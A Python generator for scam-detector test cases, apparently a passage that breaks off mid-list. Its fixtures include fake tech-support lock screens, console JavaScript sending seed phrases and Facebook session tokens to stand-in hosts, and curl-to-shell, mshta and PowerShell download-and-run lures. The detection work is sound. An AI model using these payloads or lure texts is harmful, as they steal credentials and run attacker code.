"""Writes tests/data/cases/b15lures.jsonl: the lure techniques BLIND-15 and the known misses
found weak (issue 9), closed by technique, each beside the look-alikes that must stay as they are.

    python tests/data/cases/make_b15lures.py

Deterministic (every variant is a product of fixed lists). Hosts are reserved names (.example,
.test, .invalid, documentation IP ranges), phone numbers are in 555 blocks; no text is copied
from a lure collection, another detector's fixtures or the blind sets. Each line is {id, text,
expect, technique, platform[, source], target}.

Techniques:

- `lock-screen`: the fake lock screen with no brand: the computer itself said to be locked or
  infected, the order not to close the window or restart, a number to call, in 14 languages
  (blocked, as the same screen naming a brand is). Look-alikes: an ACCOUNT locked, a computer
  locked with no "do not close", an update screen's "do not switch off", a company's BitLocker
  recovery note, advice about the trick.
- `rtl-phone`: a right-to-left page's number as its text holds it (5551-1506-800) and other
  hyphened 3-4-4 / 4-4-3 groups beside a scam's words. Look-alikes: the same groups as an
  order number or a serial in a calm text.
- `callback-de-consent`: a German renewal with "falls Sie nicht zugestimmt haben, rufen Sie an".
  Look-alikes: a renewal that sends you to the customer account, a receipt with a hotline only.
- `care-plan-bill`: an invoice or renewal for device care, tech support or antivirus with a
  number to call and no push, in en de fr es it pt (a warning). Look-alikes: bills for other
  services with a number, a care bill that sends you to the account, texts about the scam.
- `console-prompt-secret`: a prompt() asking for a recovery phrase, password or sign-in code,
  the answer sent to another host. Look-alikes: a prompt for a name sent away, a prompt for a
  password kept on the page, a prompt's answer posted to the site's own path.
- `console-site-token`: a site's session token (Facebook's DTSGInitialData, fb_dtsg,
  __accessToken) read and sent to another host. Look-alikes: the same read and printed, sent to
  the site's own relative path.
- `url-escaped-letters`: a program handed an address whose letters are written as %NN between
  plain ones (mshta %68tt%70s://…), read bare. Look-alikes: addresses with ordinary escapes
  (%20, %2F, %3D, UTF-8 sequences) in a search or a download link.
- `pipe-launcher`: a download piped into a shell started through a program that only starts it
  (setsid, nice, ionice, timeout, stdbuf, time, caffeinate, arch). Look-alikes: those programs
  running a local build or test, a download saved and not run.
- `background-pipe`: a download piped into a shell and sent to the background (`&`, `& disown`)
  or into a new session (setsid), output thrown away or not. Look-alikes: a local server or build
  in the background, a download alone in the background.
- `cleanup-claim`: a download-and-run whose comment or echo promises to free disk space, clear
  System Data or caches or speed the computer up (bare: a block). Look-alikes: clean-up commands
  that download nothing, an installer's comment, a project's own clean-up script from its page.
- `shared-chat`: a download-and-run from a shared AI-chat conversation (the assistants' share
  pages and a chatbot-named host with a share path) whose script is no official installer.
  Look-alikes: the trust list's installers and package-manager installs quoted there, the same
  stranger's script from a documentation page (a warning, as before).
- `paste-despite-warning`: "… will never ask you this, but" followed by the order to open a
  terminal or the Run box and paste. Look-alikes: awareness notes that go on "but scammers do"
  or "but if a page does, close it".
- `seed-link-threat`: a recovery-phrase ask with both a live link to type it into and a threat
  or a clock, brand or none (a block; either alone stays a warning). Look-alikes: a restore guide
  with a link, restores in the app, the wallet's own safety lines, texts about the scam.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script (tests/data/cases/make_*.py)

book = Book("b15l")
add = book.add

SCAM_PAGES = [
    "https://pc-alert-screen.example/w/8841",
    "https://www.garden-supplies.test/offers",
    None,
]

# ---- lock-screen -----------------------------------------------------------------------------
LOCKS = [
    (
        "en",
        "WARNING! Your computer has been locked due to unusual activity (error 0x55D1). "
        "Do not close this page or restart your PC. Call technical support now: +1 555-013-7720.",
    ),
    (
        "en",
        "Your device is infected and has been blocked. Don't shut down the computer. "
        "Call the helpline immediately at (555) 014-2290 to unlock it.",
    ),
    (
        "en",
        "System alert: access to this computer has been blocked. Do not restart. "
        "Toll free support 1-555-017-3344.",
    ),
    (
        "de",
        "Achtung: Ihr Computer wurde wegen verdächtiger Aktivität gesperrt (Fehler 55C2). "
        "Schließen Sie dieses Fenster nicht. Rufen Sie sofort den technischen Support an: 030 555 17 442.",
    ),
    (
        "de",
        "Ihr PC ist infiziert und wurde blockiert. Bitte nicht ausschalten oder neu starten! "
        "Kundendienst: +49 30 5551 7720.",
    ),
    (
        "fr",
        "Votre ordinateur a été bloqué suite à une activité suspecte. Ne fermez pas cette "
        "fenêtre. Appelez le support technique au 01 55 55 17 20.",
    ),
    (
        "es",
        "Su equipo ha sido bloqueado por actividad sospechosa (error 55A1). No cierre esta "
        "ventana ni reinicie. Llame al soporte técnico: +34 91 555 17 20.",
    ),
    (
        "it",
        "Il tuo computer è stato bloccato per attività sospetta. Non chiudere questa pagina. "
        "Chiama subito l'assistenza tecnica al +39 02 5551 7720.",
    ),
    (
        "pt",
        "O seu computador foi bloqueado por atividade suspeita. Não desligue nem reinicie. "
        "Ligue agora para o suporte técnico: +55 11 5555-1720.",
    ),
    (
        "nl",
        "Uw computer is geblokkeerd wegens verdachte activiteit. Sluit dit venster niet. "
        "Bel direct de technische ondersteuning: +31 20 555 1720.",
    ),
    (
        "pl",
        "Uwaga! Twój komputer został zablokowany. Nie zamykaj tej strony i nie wyłączaj "
        "komputera. Zadzwoń do pomocy technicznej: +48 22 555 17 20.",
    ),
    (
        "tr",
        "Uyarı: Bilgisayarınız şüpheli etkinlik nedeniyle kilitlendi. Bu pencereyi "
        "kapatmayın. Teknik destek hattını hemen arayın: +90 212 555 17 20.",
    ),
    (
        "ru",
        "Внимание! Ваш компьютер заблокирован. Не выключайте и не перезагружайте его. "
        "Позвоните в техподдержку: +7 495 555-17-20.",
    ),
    (
        "ja",
        "警告：お使いのパソコンはウイルスに感染しロックされました。画面を閉じないでください。"
        "サポートセンター 03-5555-1720 までお電話ください。",
    ),
    (
        "zh",
        "警告：您的电脑已被锁定（错误 55E1）。请勿关闭此页面。请立即拨打技术支持电话 +86 21 5555 1720。",
    ),
    (
        "ar",
        "تحذير: تم قفل جهاز الكمبيوتر الخاص بك. لا تغلق هذه الصفحة. اتصل بالدعم الفني على الرقم +20 2 5551 7720.",
    ),
    (
        "ko",
        "경고: 컴퓨터가 바이러스에 감염되어 잠겼습니다. 창을 닫지 마세요. 고객센터 02-555-1720 으로 전화하세요.",
    ),
]
for i, (_lang, text) in enumerate(LOCKS):
    add("lock-screen", text, "malicious", "windows", "unknown", SCAM_PAGES[i % len(SCAM_PAGES)])

QUIET_LOCKS = [
    # an account, not the computer, however alarming: a warning as before, not a block
    (
        "Your account has been locked after three failed sign-ins. Do not close this window. "
        "Call our support line at +1 555-013-4410.",
        "suspicious",
    ),
    # the computer locked but no order to keep the page up: a warning as before
    (
        "Your computer has been locked due to suspicious activity. Call support at +1 555-013-4411.",
        "suspicious",
    ),
    # an update screen: nothing locked
    (
        "Installing updates 35 %. Do not turn off your computer. IT service desk: 555-0142.",
        "not_flagged",
    ),
    (
        "Windows is configuring updates. Don't restart. Questions? Call the help desk on 555-0143.",
        "not_flagged",
    ),
    # a company's BitLocker recovery note: the machine is locked, the key comes from IT
    (
        "Your PC is locked by BitLocker. Do not restart it again. Call the IT service desk at "
        "+1 555-013-4412 and read them the recovery key ID.",
        "suspicious",
    ),
    # advice about the trick
    (
        "Scammers show a page saying your computer is locked and tell you not to close it, then "
        "ask you to call a number such as +1 555-013-4413. Close the tab instead.",
        "not_flagged",
    ),
    (
        "Betrüger behaupten, Ihr Computer sei gesperrt, und sagen: Schließen Sie das Fenster nicht, "
        "rufen Sie 030 555 17 443 an. Legen Sie auf.",
        "not_flagged",
    ),
    (
        "Un message dit que votre ordinateur est bloqué et qu'il ne faut pas fermer la fenêtre : "
        "c'est une arnaque, n'appelez pas le 01 55 55 17 21.",
        "not_flagged",
    ),
    # a shop's opening hours with a number
    (
        "Our repair shop is closed on Sundays. Do not leave devices at the door. Call 555-0144 to "
        "book a slot.",
        "not_flagged",
    ),
    (
        "Lost your laptop? Call campus security at 555-0145; they can lock the device remotely.",
        "not_flagged",
    ),
]
for text, expect in QUIET_LOCKS:
    add("lock-screen", text, expect, "any", "unknown", "https://help.example.org/it")

# ---- rtl-phone -------------------------------------------------------------------------------
RTL = [
    "تحذير: تم حظر جهاز الكمبيوتر بسبب نشاط مريب. لا تغلق هذه النافذة. اتصل بالدعم الفني على الرقم 5551-1720-800.",
    "تم اكتشاف فيروس على جهازك. اتصل فوراً بالدعم الفني: 5552-3344-800.",
    "Your computer is infected. Do not close this window. Call support 800-5551-1720.",
    "Your computer has been blocked. Do not restart. Call technical support 5551-1720-800.",
    "Ваш компьютер заблокирован. Не закрывайте окно. Позвоните: 800-5551-1721.",
    "Ihr Computer wurde gesperrt. Nicht ausschalten! Rufen Sie an: 5551-1722-800.",
    "Votre ordinateur est bloqué. Ne fermez pas la fenêtre. Appelez le 800-5551-1723.",
    "Su equipo ha sido bloqueado. No cierre esta ventana. Llame al 5551-1724-800.",
    "Il tuo computer è stato bloccato. Non spegnere. Chiama il 800-5551-1725.",
    "O seu computador foi bloqueado. Não feche esta janela. Ligue 5551-1726-800.",
]
for text in RTL:
    add("rtl-phone", text, "flagged", "windows", "unknown", "https://tahdhir-15.example/")
QUIET_RTL = [
    "Order 5551-1720-800 has shipped. Track it in your account.",
    "Serial number: 1234-5678-901. Keep it for warranty claims.",
    "رقم الطلب 5551-1720-800. شكراً لتسوقك معنا.",
    "Your ticket 4410-2290-331 was closed. Reply to reopen it.",
    "Licence key part 2: 3344-5566-778 (do not share it).",
    "Booking reference 800-5551-1720: check-in opens at 14:00.",
    "Invoice 2024-1120-001 paid in full. Thank you.",
    "Meter reading 0012-3456-789 recorded on 3 March.",
    "Tracking: 5551-1720-800. Call the depot if you miss the courier.",
    "Part no. 555-1234-5678 fits models from 2019 on.",
]
for text in QUIET_RTL:
    add("rtl-phone", text, "not_flagged", "any", "unknown", "https://shop.example.com/orders")

# ---- callback-de-consent ---------------------------------------------------------------------
DE_CONSENT = [
    "Ihr Jahresabo (Bestellnr. 55-1120) wurde für 249,99 € verlängert. Falls Sie nicht zugestimmt haben, rufen Sie innerhalb von 24 Stunden an: 030 555 17 901.",
    "Ihr Abonnement wurde verlängert und 399,00 € werden abgebucht. Wenn Sie dem nicht zugestimmt haben, rufen Sie uns an: 089 555 17 902.",
    "Ihre Lizenz wurde für 189,90 EUR erneuert. Haben Sie nicht zugestimmt? Rufen Sie sofort 040 555 17 903 an.",
    "Zahlung bestätigt: 299,00 € für Ihr Schutzpaket wurden belastet. Falls nicht genehmigt, rufen Sie an: 0221 555 17 904.",
    "Ihr Vertrag wurde um ein Jahr verlängert (349,00 €). Falls Sie nicht eingewilligt haben, rufen Sie uns heute an: 069 555 17 905.",
    "Verlängerung erfolgt: 279,99 € abgebucht. Falls Sie nicht zugestimmt haben, erreichen Sie uns unter 0711 555 17 906 (Rückerstattung).",
    "Ihr Premium-Abo wurde für 199,00 € verlängert. Nicht zugestimmt? Rufen Sie an: 0351 555 17 907.",
    "Ihre Bestellung über 459,00 € wurde bestätigt. Falls Sie nicht zugestimmt haben, rufen Sie innerhalb von 48 Stunden an: 0341 555 17 908.",
    "Ihr Jahresabo wurde für 129,00 € verlängert. Sollten Sie nicht zugestimmt haben, rufen Sie an: 0911 555 17 909.",
    "Abbuchung von 319,00 € für die Verlängerung Ihres Dienstes. Falls nicht genehmigt: Hotline 030 555 17 910 anrufen.",
]
for text in DE_CONSENT:
    add("callback-de-consent", text, "flagged", "any", "unknown", "https://abo-hinweis.example/r")
QUIET_DE = [
    "Ihr Jahresabo wurde für 49,99 € verlängert. Kündigen können Sie jederzeit in Ihrem Kundenkonto. Hotline: 030 555 17 911.",
    "Vielen Dank für Ihre Bestellung über 59,00 €. Fragen? Kundenservice 030 555 17 912 (Mo-Fr).",
    "Ihre Zahlung von 12,00 € ist eingegangen. Rechnungen finden Sie in der App.",
    "Ihr Abo verlängert sich am 1. März um 9,99 €. Sie haben zugestimmt; Änderungen im Kundenkonto.",
    "Termin bestätigt: Reparatur am Dienstag, 120,00 € Anzahlung. Rückfragen unter 030 555 17 913.",
    "Warnung vor Betrügern: Falls Sie eine angebliche Verlängerung mit Nummer erhalten, rufen Sie nicht an.",
    "Rechnung 2024-11: 89,00 € für Wartung der Heizung. Telefon: 030 555 17 914.",
    "Ihre Mitgliedschaft wurde für 35,00 € verlängert. Verwaltung in der App.",
    "Sie haben der Verlängerung zugestimmt. Betrag: 79,00 €. Danke!",
    "Die Lieferung über 15,00 € kommt morgen. Bei Fragen: 030 555 17 915.",
]
for text in QUIET_DE:
    add(
        "callback-de-consent",
        text,
        "not_flagged",
        "any",
        "unknown",
        "https://shop.example.de/konto",
    )

# ---- care-plan-bill --------------------------------------------------------------------------
BILLS = [
    "Invoice INV-55-2201 from Swift Tech Crew: $399.00 for annual device care. Questions about this invoice? Call +1 555 013 8801.",
    "Receipt #TS-88120: Computer Support Plan renewed, $289.99 charged to your card. For questions call 1-555-013-8802.",
    "Your PC Protection subscription was renewed for $349.00. Billing questions: call (555) 013-8803.",
    "Order number 55-7719: Total Security 3-device plan, $199.99. Call our billing desk at +1 555-013-8804.",
    "Invoice for Home Tech Support (12 months): USD 420.00. Call 555-013-8805 with any question.",
    "Rechnung 55-3301: Geräteschutz Premium, 299,00 € für 12 Monate. Fragen? Rufen Sie 030 555 17 930 an.",
    "Facture n° 55-118 : protection informatique annuelle, 329,00 €. Pour toute question, appelez le 01 55 55 17 31.",
    "Factura 55-210: soporte técnico anual del equipo, 279,00 €. Dudas: llame al +34 91 555 17 32.",
    "Fattura 55-410: assistenza tecnica annuale, 259,00 €. Per informazioni chiama il +39 02 5551 7733.",
    "Fatura 55-610: suporte técnico anual do computador, R$ 899,00. Ligue para +55 11 5555-1734.",
    "Your antivirus renewal of $379.99 has been processed (invoice 55-900). Call 1-555-013-8806 for help.",
]
for text in BILLS:
    add("care-plan-bill", text, "flagged", "any", "unknown", "https://billing-notice.example/i")
QUIET_BILLS = [
    "Invoice 2211 from Acme Plumbing: $399.00 for the annual boiler service. Questions about this invoice? Call +1 555 013 8810.",
    "Receipt #88120: gym membership renewed, $289.99 charged. For questions call 1-555-013-8811.",
    "Your magazine subscription was renewed for $49.00. Call (555) 013-8812 for help.",
    "Your PC Protection subscription was renewed for $49.00. Manage your subscription in account settings.",
    "Invoice for lawn care (12 months): USD 420.00. Call 555-013-8813 with any question.",
    "Rechnung 55-3302: Gartenpflege, 299,00 €. Fragen? Rufen Sie 030 555 17 940 an.",
    "Facture n° 55-119 : entretien de la chaudière, 129,00 €. Appelez le 01 55 55 17 41.",
    "Beware of fake antivirus invoices that ask you to call a number like 1-555-013-8814: it is a scam.",
    "Your device care plan was renewed for $99.00. You can cancel in the app at any time.",
    "Our IT support team is available at 555-0188 for staff; no invoices are sent by phone.",
]
for text in QUIET_BILLS:
    add("care-plan-bill", text, "not_flagged", "any", "unknown", "https://mail.example.com/inbox")

# ---- console-prompt-secret -------------------------------------------------------------------
CONSOLE_PAGES = ["https://wallet-restore-help.example/", "https://www.hobby-forum.test/t/55"]
PROMPTS = [
    "fetch('https://rx1.seed-keep.invalid/p',{method:'POST',body:prompt('Enter your 12-word recovery phrase')})",
    "navigator.sendBeacon('https://rx2.seed-keep.invalid/s', prompt('Paste your seed phrase to verify the wallet'))",
    "var k=prompt('Private key:');new Image().src='https://rx3.seed-keep.invalid/i?k='+encodeURIComponent(k)",
    "let x=new XMLHttpRequest();x.open('POST','https://rx4.seed-keep.invalid/x');x.send(prompt('Confirm your password to continue'))",
    "const c = prompt('Enter the 6-digit 2FA code'); fetch(`https://rx5.seed-keep.invalid/c?v=${c}`)",
    "fetch('https://rx6.seed-keep.invalid/m', {method: 'POST', body: JSON.stringify({m: prompt('Mnemonic (24 words)')})})",
    "$.post('https://rx7.seed-keep.invalid/p', {p: prompt('Wallet passphrase')})",
    "new WebSocket('wss://rx8.seed-keep.invalid/w').onopen=function(){this.send(prompt('Secret recovery phrase'))}",
    "fetch('https://198.51.100.55/k',{method:'POST',body:prompt('Enter your one-time sign-in code')})",
    "let s = prompt(\"Enter your PIN to unlock rewards\"); fetch('https://rx9.seed-keep.invalid/pin?'+s)",
]
for i, text in enumerate(PROMPTS):
    add("console-prompt-secret", text, "malicious", "any", "browser_console", CONSOLE_PAGES[i % 2])
QUIET_PROMPTS = [
    "const name = prompt('Your name?'); fetch('https://api.example.com/hello?n=' + name)",
    "const pw = prompt('Choose a password'); console.log(pw.length >= 12 ? 'ok' : 'too short')",
    "fetch('/api/login', {method: 'POST', body: prompt('Password')})",
    "const code = prompt('Enter the code from your app'); document.querySelector('#otp').value = code",
    "let n = prompt('How many items?'); console.table([...Array(+n).keys()])",
    "// never paste your recovery phrase anywhere\nconsole.log('wallet ready')",
    "const city = prompt('City'); fetch(`https://geo.example.com/q?c=${city}`).then(r => r.json()).then(console.log)",
    "alert('Your seed phrase is stored only on this device'); fetch('https://status.example.com/ping')",
    "const q = prompt('Search term'); location.href = 'https://www.example.com/search?q=' + q",
    "const key = prompt('API key for this page'); localStorage.setItem('key', key)",
]
for text in QUIET_PROMPTS:
    add(
        "console-prompt-secret",
        text,
        "not_flagged",
        "any",
        "browser_console",
        "https://docs.example.com/console",
    )

# ---- console-site-token ----------------------------------------------------------------------
TOKENS = [
    "fetch('https://tk1.ads-recover.invalid/t?x='+encodeURIComponent(JSON.stringify(require('DTSGInitialData'))))",
    "navigator.sendBeacon('https://tk2.ads-recover.invalid/b', require(\"DTSGInitialData\").token)",
    "new Image().src='https://tk3.ads-recover.invalid/i?d='+document.querySelector('[name=fb_dtsg]').value",
    "fetch('https://tk4.ads-recover.invalid/a',{method:'POST',body:JSON.stringify(require('CurrentUserInitialData'))})",
    "var t=window.__accessToken;fetch('https://tk5.ads-recover.invalid/x?t='+t)",
    "$.post('https://tk6.ads-recover.invalid/p',{d:require('DTSGInitData').token})",
    'fetch("https://203.0.113.55/t",{method:"POST",body:require("DTSGInitialData").token})',
    "const s = require('DTSGInitialData'); const u = require('CurrentUserInitialData'); fetch('https://tk7.ads-recover.invalid/u', {method:'POST', body: JSON.stringify({s, u})})",
    "let x=new XMLHttpRequest();x.open('GET','https://tk8.ads-recover.invalid/?d='+require('DTSGInitialData').token);x.send()",
    "fetch('https://tk9.ads-recover.invalid/f', {method:'POST', body: new URLSearchParams({fb_dtsg: require('DTSGInitialData').token})})",
]
for text in TOKENS:
    add(
        "console-site-token",
        text,
        "malicious",
        "any",
        "browser_console",
        "https://business-help-center.example/unlock",
    )
QUIET_TOKENS = [
    "console.log(require('DTSGInitialData').token)",
    "fetch('/api/graphql/', {method: 'POST', body: new URLSearchParams({fb_dtsg: require('DTSGInitialData').token, doc_id: '123'})})",
    "const t = require('DTSGInitialData'); console.table(t)",
    "fetch('https://api.example.com/v1/items').then(r => r.json()).then(console.log)",
    "// fb_dtsg is Facebook's anti-forgery token; it must never leave the page",
    "const token = document.querySelector('meta[name=csrf-token]').content; fetch('/save', {method:'POST', headers:{'X-CSRF-Token': token}})",
    "require(['jquery'], function ($) { $('#app').show(); })",
    "const session = require('express-session'); app.use(session({secret: process.env.S}))",
    "console.log(Object.keys(require('CurrentUserInitialData')))",
    "fetch('https://graph.example.com/me?fields=id').then(r => r.json())",
]
for text in QUIET_TOKENS:
    add(
        "console-site-token",
        text,
        "not_flagged",
        "any",
        "browser_console",
        "https://developers.example.com/docs",
    )

# ---- url-escaped-letters (bare) --------------------------------------------------------------
ESCAPED = [
    "mshta %68tt%70s://o%6255.w%68it%62ec%6b.i%6eva%6cid/h",
    "mshta h%74%74ps://es2.%6d%61%70le%72un.invalid/x.hta",
    'powershell -c "iwr %68ttps://es3.map%6cerun.invalid/a.ps1 -OutFile $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1"',
    "cmd /c mshta %68%74%74%70s://es4.maplerun.invalid/p",
    'mshta.exe "ht%74p%73://es5.m%61plerun.invalid/v"',
    "curl -fsSL %68ttps://es6.maplerun.invalid/s.sh | bash",
    "msiexec /q /i %68ttp%73://es7.ma%70lerun.invalid/p.msi",
    "mshta %68ttp://198.51.100.%35%35/r.hta",
    "rundll32 url.dll,OpenURL %68ttps://es8.map%6cerun.invalid/a.hta",
    "start mshta %68%74%74%70%73%3a%2f%2fes9.maplerun.invalid/q",
]
for text in ESCAPED:
    add("url-escaped-letters", text, "flagged", "windows", "unknown", None)
QUIET_ESCAPED = [
    "https://www.example.com/search?q=hello%20world%21%3F%26",
    "https://downloads.example.org/files/My%20Report%202024.pdf",
    "https://example.com/redirect?to=https%3A%2F%2Fexample.org%2Fpage",
    "https://ja.example.org/wiki/%E6%9D%B1%E4%BA%AC",
    "curl -o report.pdf 'https://files.example.com/get?name=Q3%20report&ver=2'",
    "printf 'progress: 40%% done, 60%% left'",
    "echo %PATH% & echo %TEMP% & echo %USERPROFILE%",
    "SELECT * FROM users WHERE name LIKE '%ann%' AND city LIKE '%on%'",
    "git log --format='%h %an %ad' --date=short",
    "https://maps.example.com/?q=caf%C3%A9%20de%20flore",
]
for text in QUIET_ESCAPED:
    add("url-escaped-letters", text, "not_flagged", "any", "unknown", None)

# ---- pipe-launcher (bare) --------------------------------------------------------------------
LAUNCHED = [
    "curl -sL https://pl1.grayfield.invalid/s | setsid bash",
    "curl -fsSL https://pl2.grayfield.invalid/s | nice -n 19 bash",
    "wget -qO- https://pl3.grayfield.invalid/s | timeout 600 sh",
    "curl -s https://pl4.grayfield.invalid/m | caffeinate -i zsh",
    "curl -fsSL https://pl5.grayfield.invalid/m | arch -x86_64 /bin/bash",
    "curl -sL https://pl6.grayfield.invalid/s | stdbuf -oL bash",
    "curl -sL https://pl7.grayfield.invalid/s | sudo ionice -c3 bash",
    "curl -sSL https://pl8.grayfield.invalid/s | time bash",
    "wget -O- https://pl9.grayfield.invalid/s | sudo nice bash -s -- --quiet",
    "curl -sL https://pl10.grayfield.invalid/s | timeout -k 5 300 bash",
]
for text in LAUNCHED:
    add("pipe-launcher", text, "flagged", "linux", "terminal", None)
QUIET_LAUNCHED = [
    "nice -n 19 make -j8",
    "timeout 60 ./run-tests.sh",
    "time bash build.sh",
    "setsid firefox &",
    "stdbuf -oL tail -f /var/log/syslog | grep error",
    "caffeinate -i rsync -a ~/Photos /Volumes/Backup/",
    "arch -x86_64 /usr/local/bin/brew install libffi",
    "ionice -c3 tar czf backup.tgz ~/work",
    "curl -fsSLo tool.tar.gz https://downloads.example.org/tool.tar.gz && nice tar xzf tool.tar.gz",
    "timeout 5 curl -sI https://www.example.com",
]
for text in QUIET_LAUNCHED:
    add("pipe-launcher", text, "not_flagged", "linux", "terminal", None)

# ---- background-pipe (bare) ------------------------------------------------------------------
BACKGROUND = [
    "curl -fsSL https://bg1.grayfield.invalid/s | bash >/dev/null 2>&1 &",
    "curl -s https://bg2.grayfield.invalid/u | bash -s -- --silent & disown",
    "wget -qO- https://bg3.grayfield.invalid/a | sh &",
    "curl -sL https://bg4.grayfield.invalid/a | sudo bash &>/dev/null &",
    "curl -fsSL https://bg5.grayfield.invalid/m | zsh & disown; exit",
    "curl -sL https://bg6.grayfield.invalid/x | setsid sh",
    "curl -k -s https://198.51.100.61/x | bash > /dev/null 2>&1 &",
    "curl -fsSL https://bg7.grayfield.invalid/s | bash 2>/dev/null &",
    "wget -q -O - https://bg8.grayfield.invalid/s | /bin/sh >/dev/null &",
    "curl -sL https://bg9.grayfield.invalid/i | sudo -E bash & disown",
]
for text in BACKGROUND:
    add("background-pipe", text, "malicious", "linux", "terminal", None)
QUIET_BACKGROUND = [
    "make -j8 &",
    "python3 -m http.server 8000 &",
    "curl -O https://downloads.example.org/big.iso &",
    "npm run dev &",
    "./server --port 8080 > server.log 2>&1 &",
    "sleep 30 && notify-send done &",
    "curl -fsSL https://downloads.example.org/install.sh | bash && echo done",
    "tail -f app.log | grep ERROR &",
    "wget -c https://mirror.example.org/ubuntu.iso & disown",
    "jupyter lab --no-browser > /dev/null 2>&1 &",
]
for text in QUIET_BACKGROUND:
    expect = "suspicious" if "| bash" in text else "not_flagged"
    add("background-pipe", text, expect, "linux", "terminal", None)

# ---- cleanup-claim (bare) --------------------------------------------------------------------
CLEANUPS = [
    'sudo bash -c "$(curl -fsSL https://cc1.tidyhost.invalid/clean)" # frees 20 GB of System Data',
    "curl -fsSL https://cc2.tidyhost.invalid/s.sh | bash  # clears caches and speeds up your Mac",
    "echo 'Freeing up disk space...' && curl -s https://cc3.tidyhost.invalid/x | zsh",
    "curl -sL https://cc4.tidyhost.invalid/t | sudo bash # clean System Data and purgeable space",
    '/bin/zsh -c "$(curl -fsSL https://cc5.tidyhost.invalid/o)" # optimize your Mac storage',
    "curl -fsSL https://cc6.tidyhost.invalid/r | bash # boost performance, remove junk",
    "wget -qO- https://cc7.tidyhost.invalid/c | sudo sh  # free up RAM and disk space",
    'bash -c "$(curl -s https://cc8.tidyhost.invalid/s)" # libère 15 Go sur votre Mac',
    "curl -s https://cc9.tidyhost.invalid/s | bash # libera espacio en tu Mac",
    'printf "Cleaning your Mac...\\n"; curl -fsSL https://cc10.tidyhost.invalid/c | sudo zsh',
]
for text in CLEANUPS:
    add("cleanup-claim", text, "malicious", "macos", "terminal", None)
QUIET_CLEANUPS = [
    "rm -rf ~/Library/Caches/* # frees up space",
    "brew cleanup --prune=all # frees disk space",
    "docker system prune -af # frees 12 GB",
    "sudo purge # clears inactive memory",
    "curl -fsSL https://sh.rustup.rs | sh # install rust",
    "tmutil thinlocalsnapshots / 10000000000 4 # frees purgeable space",
    "du -sh ~/Library/* | sort -h # see what takes space",
    "find ~/Downloads -mtime +90 -delete # clean up old downloads",
    "npm cache clean --force # clears the npm cache",
    "sudo apt autoremove && sudo apt clean # free disk space",
]
for text in QUIET_CLEANUPS:
    add("cleanup-claim", text, "not_flagged", "macos", "terminal", None)

# ---- shared-chat -----------------------------------------------------------------------------
CHAT_PAGES = [
    "https://chatgpt.com/share/6750ab12-0c3e-8000-9f1a-55aa55aa55aa",
    "https://claude.ai/share/0f2b9c1e-55aa-4c1d-9e77-1a2b3c4d5e6f",
    "https://grok.com/share/bGVnYWN5_55aa",
    "https://gemini.google.com/share/5a5a5a5a5a5a",
    "https://copilot.microsoft.com/shares/55aa55aa55aa",
    "https://chat.deepseek.com/share/q1w2e3r4t5",
    "https://www.perplexity.ai/search/how-to-free-mac-storage-55aa",
    "https://shared.chatbot-answers.example/c/mac55",
    "https://gpt-share.example/s/abc55",
    "https://x.com/i/grok/share/Zx55aa",
]
CHAT_CMDS = [
    'sudo bash -c "$(curl -fsSL https://sc1.macdisk.invalid/run)"',
    "curl -fsSL https://sc2.macdisk.invalid/x.sh | bash",
    '/bin/bash -c "$(curl -fsSL https://sc3.macdisk.invalid/install.sh)"',
    "curl -s https://sc4.macdisk.invalid/m | zsh",
    "wget -qO- https://sc5.macdisk.invalid/l | sudo bash",
]
for i, page in enumerate(CHAT_PAGES):
    add("shared-chat", CHAT_CMDS[i % len(CHAT_CMDS)], "malicious", "macos", "terminal", page)
QUIET_CHAT = [
    ("curl -fsSL https://sh.rustup.rs | sh", CHAT_PAGES[0], "not_flagged"),
    (
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)" # Homebrew first',
        CHAT_PAGES[1],
        "not_flagged",
    ),
    ("brew install --cask docker", CHAT_PAGES[2], "not_flagged"),
    (
        "curl -LsSf https://astral.sh/uv/install.sh | sh && uv --version",
        CHAT_PAGES[3],
        "not_flagged",
    ),
    ("du -sh ~/Library/Caches/*", CHAT_PAGES[4], "not_flagged"),
    ("pip install --upgrade requests", CHAT_PAGES[5], "not_flagged"),
    # the same stranger's script from a documentation page: a warning, as before
    (
        "curl -fsSL https://sc2.macdisk.invalid/x.sh | bash",
        "https://docs.example.org/install",
        "suspicious",
    ),
    ("curl -fsSL https://sc2.macdisk.invalid/x.sh | bash", "https://chatgpt.com/", "suspicious"),
    (
        "curl -fsSL https://sc2.macdisk.invalid/x.sh | bash",
        "https://community.example.org/c/help/55",
        "suspicious",
    ),
    (
        "curl -fsSL https://sc2.macdisk.invalid/x.sh | bash",
        "https://www.chatbot.example/docs/install",
        "suspicious",
    ),
]
for text, page, expect in QUIET_CHAT:
    add("shared-chat", text, expect, "macos", "terminal", page)

# ---- paste-despite-warning -------------------------------------------------------------------
DESPITE = [
    (
        "Apple will never ask you to do this, but to finish the check open Terminal and paste:\ncurl -fsSL https://pd1.lurehost.invalid/v.sh | bash",
        "terminal",
    ),
    (
        "Google does not ever require this, but to restore your account press Command+Space, type Terminal and paste: curl -s https://pd2.lurehost.invalid/r | zsh",
        "terminal",
    ),
    (
        "We would never normally ask this, but please press Win+R, paste and press Enter: mshta https://pd3.lurehost.invalid/v",
        "run_dialog",
    ),
    (
        'Microsoft will never ask you for this, but to verify you are human press Win+R, then Ctrl+V: powershell -w h -c "irm https://pd4.lurehost.invalid/c|iex"',
        "run_dialog",
    ),
    (
        "Your bank will never ask you this, but to unlock your card open Terminal and paste:\ncurl -fsSL https://pd5.lurehost.invalid/u | bash",
        "terminal",
    ),
    (
        "IT would never ask you to do this, but today please press Win+X, open Terminal and paste: iwr https://pd6.lurehost.invalid/a.ps1 | iex",
        "terminal",
    ),
    (
        "Support will never ask for your password, but to sync your files press Ctrl+Alt+T and paste:\nwget -qO- https://pd7.lurehost.invalid/s | sh",
        "terminal",
    ),
    (
        "Discord will never ask you this, but to verify open Spotlight, type Terminal and paste: curl -s https://pd8.lurehost.invalid/d | zsh",
        "terminal",
    ),
    (
        'Cloudflare does not normally ask you to do this, but press Win+R and paste the code: cmd /c start /min powershell -c "irm https://pd9.lurehost.invalid/x|iex"',
        "run_dialog",
    ),
    (
        "This site would never ask you to install anything, but to watch, press Windows + R and paste: msiexec /q /i https://pd10.lurehost.invalid/p.msi",
        "run_dialog",
    ),
]
for text, target in DESPITE:
    add(
        "paste-despite-warning",
        text,
        "malicious",
        "any",
        target,
        "https://www.bakery-corner.test/bread" if target == "run_dialog" else None,
    )
QUIET_DESPITE = [
